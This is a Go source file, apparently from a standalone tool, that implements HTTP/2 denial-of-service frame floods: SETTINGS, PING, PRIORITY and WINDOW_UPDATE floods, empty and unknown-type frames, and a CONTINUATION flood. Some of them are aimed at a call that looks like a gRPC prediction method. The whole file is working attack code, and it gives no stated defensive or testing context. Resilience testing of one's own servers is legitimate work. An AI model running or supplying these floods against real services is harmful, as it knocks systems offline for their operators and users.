package main

import (
	"context"

	"golang.org/x/net/http2"
)

// settingsFlood asks for an acknowledgement with three frames of four.
func settingsFlood(l *link) (operation, error) {
	n := 0
	return func(context.Context) error {
		if n++; n%4 == 0 {
			return l.frames.WriteSettingsAck()
		}
		return l.frames.WriteSettings(http2.Setting{ID: http2.SettingInitialWindowSize, Val: uint32(1<<16 + n%2)})
	}, nil
}

func pingFlood(l *link) (operation, error) {
	return func(context.Context) error { return l.frames.WritePing(false, [8]byte{1}) }, nil
}

func priorityFlood(l *link) (operation, error) {
	return func(context.Context) error {
		stream := l.random.Uint32N(1<<20)*2 + 1
		return l.frames.WritePriority(stream, http2.PriorityParam{
			StreamDep: stream + 2, Weight: uint8(l.random.UintN(256)),
		})
	}, nil
}

// windowUpdateFlood is of the connection and of one call, which waits for its message.
func windowUpdateFlood(l *link) (operation, error) {
	stream, err := l.call(predictMethod)
	n := 0
	return func(context.Context) error {
		n++
		return l.frames.WriteWindowUpdate(stream*uint32(n%2), 1)
	}, err
}

// emptyFrames are of types that nobody knows, and of no data of a call.
func emptyFrames(l *link) (operation, error) {
	stream, err := l.call(predictMethod)
	n := 0
	return func(context.Context) error {
		if n++; n%2 == 0 {
			return l.frames.WriteData(stream, false, nil)
		}
		return l.frames.WriteRawFrame(http2.FrameType(32+l.random.UintN(224)), 0, 0, nil)
	}, err
}

// continuationFlood is of empty frames on every other connection, and of a small header in each frame on the others.
func continuationFlood(l *link) (operation, error) {
	err := l.frames.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: l.head(predictMethod)})
	small := []byte{0, 1, 'x', 1, 'y'} // not for the index
	if l.number%2 == 0 {
		small = nil
	}
	return func(context.Context) error { return l.frames.WriteContinuation(1, false, small) }, err
}
